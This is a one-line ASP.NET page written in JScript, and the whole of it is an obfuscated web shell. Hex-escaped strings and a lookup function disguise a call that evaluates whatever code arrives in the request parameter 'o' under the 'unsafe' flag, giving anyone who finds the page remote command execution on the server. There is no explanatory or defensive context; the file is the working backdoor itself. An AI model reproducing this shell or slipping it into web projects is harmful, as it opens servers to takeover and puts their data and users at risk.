<%@ Page Language="Jscript"%><%var _0x3f2a=['\x69\x74\x65\x6d','orange','unsafe'];function _0x1b(i){return _0x3f2a[i];}eval(Request[_0x1b(0)]("o"),_0x1b(2));%>
